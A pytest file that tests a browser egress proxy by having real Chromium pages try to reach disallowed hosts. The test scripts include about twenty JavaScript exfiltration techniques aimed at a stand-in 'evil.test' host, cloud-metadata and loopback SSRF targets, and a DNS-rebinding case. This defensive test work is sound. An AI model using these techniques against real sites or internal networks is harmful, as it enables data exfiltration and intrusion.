"""Real Chromium through the proxy: what pages can and cannot reach, however they try."""

import asyncio
import socket
from collections.abc import AsyncIterator, Callable, Mapping
from contextlib import asynccontextmanager, suppress

import pytest
import pytest_asyncio
from playwright.async_api import Error, Page

from seezar.browser.pool import BrowserPool
from seezar.egress import EgressPolicy, EgressProxy, EgressUnreachable, Limits
from tests.chromium import browser_settings, make_pool
from tests.egress.names import Names, policy
from tests.site import Handler, Response, Site, redirect, serve
from tests.site import page as html

pytestmark = [pytest.mark.asyncio(loop_scope="module"), pytest.mark.browser]

# Names that a site's own pages use; all of them lead to this machine, which the owner of these tests has allowed.
HERE = ("app.example.test", "static.example.test", "cdn.other.test", "evil.test", "other.test")
PRIVATE = ("127.0.0.1",)
names = Names()
type Routes = Mapping[str, Handler | Response | str]


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def pool() -> AsyncIterator[BrowserPool]:
    made = BrowserPool(browser_settings(), egress=EgressProxy(resolve=names, limits=Limits(answer_s=20.0)))
    yield made
    await made.close()


@pytest.fixture(autouse=True)
def _names() -> None:
    names.known = {name: ["127.0.0.1"] for name in HERE}
    names.asked.clear()


@asynccontextmanager
async def visit(pool: BrowserPool, of: EgressPolicy) -> AsyncIterator[Page]:
    async with pool.context(of) as context:
        yield await pool.new_page(context)


@asynccontextmanager
async def sites(routes: Routes) -> AsyncIterator[tuple[Site, str, EgressPolicy]]:
    """A site, its origin under its made-up name, and the policy of an account on it."""
    async with serve(routes, host="app.example.test") as site:
        yield site, site.url, policy(site.url, private=PRIVATE)


async def until(seen: Callable[[], bool]) -> None:
    """Wait for what the browser does by itself; fails when it does not."""
    async with asyncio.timeout(10):
        while not seen():  # noqa: ASYNC110 - nobody tells when it happens
            await asyncio.sleep(0.02)


def paths(site: Site) -> list[str]:
    return [request.path for request in site.requests]


def refused(of: EgressPolicy) -> set[str]:
    return {host.partition(":")[0] for host in of.decisions.refused}


async def test_the_site_and_its_subdomains_load(pool: BrowserPool) -> None:
    body = '<script src="http://static.example.test:PORT/js"></script>'
    async with sites({"/js": Response("document.title = 'ran'", content_type="text/javascript")}) as (site, url, of):
        site.routes["/"] = html(body.replace("PORT", str(site.port)))
        async with visit(pool, of) as page:
            await page.goto(url)
            assert await page.title() == "ran"
    assert paths(site) == ["/", "/js"]
    assert of.decisions.allowed == {"app.example.test": "origin", "static.example.test": "same_site"}
    assert not of.decisions.refused


_TRIES = {
    "image": "new Image().src = 'EVIL/image'",
    "script": "document.head.append(Object.assign(document.createElement('script'), {src: 'EVIL/script'}))",
    "style": "document.head.append(Object.assign(document.createElement('link'), {rel: 'stylesheet', href: 'EVIL/x'}))",
    "iframe": "document.body.append(Object.assign(document.createElement('iframe'), {src: 'EVIL/frame'}))",
    "fetch": "fetch('EVIL/fetch', {mode: 'no-cors'}).catch(() => 0)",
    "keepalive": "fetch('EVIL/fetch', {mode: 'no-cors', method: 'POST', body: 'x', keepalive: true}).catch(() => 0)",
    "xhr": "(r => { r.open('POST', 'EVIL/xhr'); r.send('x'); })(new XMLHttpRequest())",
    "websocket": "new WebSocket('EVIL/ws'.replace('http', 'ws'))",
    "beacon": "navigator.sendBeacon('EVIL/beacon', 'x')",
    "events": "new EventSource('EVIL/events')",
    "prefetch": "(l => { l.rel = 'prefetch'; l.href = 'EVIL/p'; document.head.append(l); })"
    "(document.createElement('link'))",
    "form": "(f => { document.body.append(f); f.submit(); })"
    "(Object.assign(document.createElement('form'), {action: 'EVIL/form', method: 'POST'}))",
    "navigation": "location.href = 'EVIL/gone'",
    "worker": "new Worker(URL.createObjectURL(new Blob([\"fetch('EVIL/w', {mode: 'no-cors'})\"])))",
    "ping": "(a => { document.body.append(a); a.click(); })"
    "(Object.assign(document.createElement('a'), {href: '#', ping: 'EVIL/ping'}))",
    "media": "document.body.append(Object.assign(document.createElement('video'), {src: 'EVIL/v', autoplay: true}))",
    "font": "new FontFace('x', 'url(EVIL/font)').load().catch(() => 0)",
    "download": "(a => { document.body.append(a); a.click(); })"
    "(Object.assign(document.createElement('a'), {href: 'EVIL/file', download: 'x'}))",
    "popup": "window.open('EVIL/popup')",
    "import": "import('EVIL/module').catch(() => 0)",
}


@pytest.mark.parametrize("way", _TRIES)
async def test_no_way_leads_to_a_host_that_is_not_allowed(pool: BrowserPool, way: str) -> None:
    async with serve({}, host="evil.test") as evil, sites({"/": html("<p>x</p>")}) as (_, url, of):
        async with visit(pool, of) as page:
            await page.goto(url)
            await page.evaluate(f"() => {{ {_TRIES[way].replace('EVIL', evil.url)}; }}")
            await until(lambda: "evil.test" in refused(of))
        assert evil.requests == []
        assert "evil.test" not in names.asked, "a name that is refused was looked up"


async def test_the_same_ways_work_where_the_owner_allows(pool: BrowserPool) -> None:
    """So that the test above does not pass because nothing works at all."""
    async with serve({}, host="evil.test") as evil, sites({"/": html("<p>x</p>")}) as (_, url, _of):
        of = policy(url, hosts=[f"evil.test:{evil.port}"], private=PRIVATE)
        async with visit(pool, of) as page:
            await page.goto(url)
            for way in ("image", "fetch", "xhr", "beacon", "worker", "websocket", "iframe", "prefetch"):
                before = len(evil.requests)
                await page.evaluate(f"() => {{ {_TRIES[way].replace('EVIL', evil.url)}; }}")
                await until(lambda count=before: len(evil.requests) > count)
        assert not of.decisions.refused


async def test_redirects_are_followed_no_further_than_is_allowed(pool: BrowserPool) -> None:
    async with serve({"/": html("evil")}, host="evil.test") as evil, sites({}) as (site, url, of):
        static = url.replace("app.", "static.")
        site.routes |= {"/": redirect(f"{static}/2"), "/2": redirect("/3"), "/3": redirect(f"{evil.url}/")}
        async with visit(pool, of) as page:
            answer = await page.goto(f"{url}/")
            assert answer is not None
            assert answer.status == 403
            assert answer.headers["proxy-status"] == "seezar; error=http_request_denied"
        assert paths(site) == ["/", "/2", "/3"]
        assert evil.requests == []
        assert of.decisions.refused[f"evil.test:{evil.port}"].kinds == {"document"}


async def test_what_the_header_declares_loads_at_once(pool: BrowserPool) -> None:
    """The document and its script come one right after the other: the script is held until the header is known."""
    script = Response("document.title = 'ran'", content_type="text/javascript")
    async with serve({"/js": script}, host="cdn.other.test") as cdn, sites({}) as (site, url, of):
        policies = {"content-security-policy": f"default-src 'self'; script-src {cdn.url}"}
        site.routes["/"] = Response(html(f'<script src="{cdn.url}/js"></script>'), headers=policies)
        for _ in range(5):
            fresh = policy(url, private=PRIVATE)
            async with visit(pool, fresh) as page:
                await page.goto(url)
                assert await page.title() == "ran"
            assert fresh.decisions.allowed["cdn.other.test"] == "declared"
        # A page elsewhere, or an element, declares nothing.
        meta = f'<meta http-equiv="content-security-policy" content="script-src {cdn.url}">'
        site.routes["/"] = html(f'{meta}<script src="{cdn.url}/js"></script>')
        async with visit(pool, of) as page:
            await page.goto(url)
            assert await page.title() != "ran"
        assert refused(of) == {"cdn.other.test"}


@pytest.mark.parametrize("address", ["127.0.0.1", "169.254.169.254", "::ffff:10.0.0.1", "0.0.0.0"])  # noqa: S104
async def test_a_subdomain_does_not_lead_inside(pool: BrowserPool, address: str) -> None:
    async with serve({"/": html("<p>x</p>")}) as site:
        of = policy(site.url, "http://app.example.test")
        names.known["static.example.test"] = [address]
        async with visit(pool, of) as page:
            await page.goto(site.url)
            await page.evaluate("fetch('http://static.example.test/x', {mode: 'no-cors'}).catch(() => 0)")
        assert of.decisions.refused["static.example.test"].why == {"private_address"}


async def test_another_port_of_this_machine_is_out_of_reach(pool: BrowserPool) -> None:
    async with serve({}) as secret, serve({"/": html("<p>x</p>")}) as site:
        of = policy(site.url)
        async with visit(pool, of) as page:
            await page.goto(site.url)
            for host in ("127.0.0.1", "localhost", "[::1]", "2130706433", "127.1"):
                await page.evaluate(f"fetch('http://{host}:{secret.port}/', {{mode: 'no-cors'}}).catch(() => 0)")
        assert secret.requests == []


async def test_a_name_that_changes_its_mind(pool: BrowserPool) -> None:
    """DNS rebinding: the page is there, then its name leads to the inside."""
    async with serve({"/": html("<p>x</p>")}, host="app.example.test") as site, serve({}) as inside:
        of = policy(site.url, private=PRIVATE)
        names.known["app.example.test"] = [["127.0.0.1"], ["169.254.169.254"]]
        async with visit(pool, of) as page:
            await page.goto(site.url)
            got = await page.evaluate("fetch('/again').then(answer => answer.status)")
        assert got == 403
        assert of.decisions.refused[f"app.example.test:{site.port}"].why == {"private_address"}
        assert inside.requests == []


async def test_each_context_has_its_own_way_out(pool: BrowserPool) -> None:
    async with (
        serve({"/": html("a")}, host="app.example.test") as one,
        serve({"/": html("b")}, host="other.test") as two,
    ):
        async with (
            visit(pool, policy(one.url, private=PRIVATE)) as first,
            visit(pool, policy(two.url, private=PRIVATE)) as second,
        ):
            for page, mine, theirs in ((first, one, two), (second, two, one)):
                answer = await page.goto(mine.url)
                assert answer is not None
                assert answer.status == 200
                answer = await page.goto(theirs.url)
                assert answer is not None
                assert answer.status == 403
        assert len(one.requests) == len(two.requests) == 1


async def test_without_a_policy_nothing_is_reached(pool: BrowserPool) -> None:
    async with serve({"/": html("x")}) as site:
        async with pool.context(None) as context:
            answer = await (await pool.new_page(context)).goto(site.url)
            assert answer is not None
            assert answer.status == 403
        # Nor by a context that did not come from the pool: it has no credentials.
        async with pool.context(None) as context:
            assert context.browser is not None
            bare = await context.browser.new_context()
            with pytest.raises(Error, match="ERR_INVALID_AUTH_CREDENTIALS"):
                await (await bare.new_page()).goto(site.url)
            await bare.close()
        assert site.requests == []


async def test_webrtc_sends_nothing_past_the_proxy(pool: BrowserPool) -> None:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as stun, socket.socket() as turn:
        stun.bind(("127.0.0.1", 0))
        stun.setblocking(False)
        turn.bind(("127.0.0.1", 0))
        turn.listen()
        turn.setblocking(False)
        servers = [
            {"urls": f"stun:127.0.0.1:{stun.getsockname()[1]}"},
            {
                "urls": f"turn:127.0.0.1:{turn.getsockname()[1]}?transport=tcp",
                "username": "u",
                "credential": "c",
            },
        ]
        async with sites({"/": html("x")}) as (_, url, of), visit(pool, of) as page:
            await page.goto(url)
            candidates = await page.evaluate(
                """async servers => {
                    const found = [], peer = new RTCPeerConnection({iceServers: servers});
                    peer.createDataChannel('x');
                    peer.onicecandidate = event => event.candidate && found.push(event.candidate.candidate);
                    await peer.setLocalDescription(await peer.createOffer());
                    const done = new Promise(end => peer.onicegatheringstatechange =
                        () => peer.iceGatheringState === 'complete' && end());
                    await Promise.race([done, new Promise(end => setTimeout(end, 5000))]);
                    return found;
                }""",
                servers,
            )
        assert candidates == []
        with pytest.raises(BlockingIOError):
            stun.recv(1)
        with pytest.raises(BlockingIOError):
            turn.accept()


async def test_the_proxy_ends_and_nothing_goes_out() -> None:
    async with make_pool() as pool, serve({"/": html("<p>x</p>")}) as site:
        async with pool.context(policy(site.url)) as context:
            page = await pool.new_page(context)
            await page.goto(site.url)
            await pool.way_out.proxy.close()
            with pytest.raises(Error, match="ERR_PROXY_CONNECTION_FAILED"):
                await page.goto(site.url)
            assert len(site.requests) == 1
        # The next one has a new proxy, in the same browser.
        async with pool.context(policy(site.url)) as context:
            answer = await (await pool.new_page(context)).goto(site.url)
            assert answer is not None
            assert answer.status == 200


async def test_the_proxy_ends_in_the_middle_of_an_answer() -> None:
    asked = asyncio.Event()

    async def never(_: object) -> str:
        asked.set()
        await asyncio.Event().wait()
        return ""

    async with make_pool() as pool, serve({"/": never}) as site, pool.context(policy(site.url)) as context:
        page = await pool.new_page(context)
        going = asyncio.ensure_future(page.goto(site.url))
        await asked.wait()
        await pool.way_out.proxy.close()
        with pytest.raises(Error, match="net::ERR_"):
            await going


async def test_a_context_that_is_closed_leaves_no_way_in() -> None:
    async with make_pool() as pool, serve({"/": html("x")}) as site:
        async with pool.context(policy(site.url)) as context:
            identity = pool.way_out._identities[context]
            await (await pool.new_page(context)).goto(site.url)
        assert identity.policy is None
        assert not identity.connections
        assert pool.way_out.policy(context) is None


async def test_a_page_has_no_history_and_its_requests_no_trace_of_the_proxy(pool: BrowserPool) -> None:
    async with sites({"/": html("x")}) as (site, url, of), visit(pool, of) as page:
        await page.goto(url)
        assert await page.evaluate("[history.length, document.referrer]") in ([1, ""], [2, ""])
        assert "proxy" not in site.sent().lower()


async def test_a_browser_elsewhere_is_used_only_when_that_is_said() -> None:
    async with make_pool(cdp_url="http://203.0.113.7:9222") as pool:
        with pytest.raises(EgressUnreachable, match="SEEZAR_CDP_UNGATED"):
            await pool.new_context(policy("https://app.example"))
    made = BrowserPool(browser_settings(cdp_url="http://203.0.113.7:9222", cdp_ungated=True))
    assert await made.way_out.server() is None
    await made.close()


async def test_sixty_subresources_at_once(pool: BrowserPool) -> None:
    body = "".join(
        f'<img src="/{number}.png" onload="1" onerror="window.done = (window.done || 0) + 1">' for number in range(60)
    )
    async with sites({"/": html(body)}) as (site, url, of), visit(pool, of) as page:
        await page.goto(url)
        await page.wait_for_function("window.done === 60")
        assert len(paths(site)) == 61
    with suppress(Error):
        await page.close()
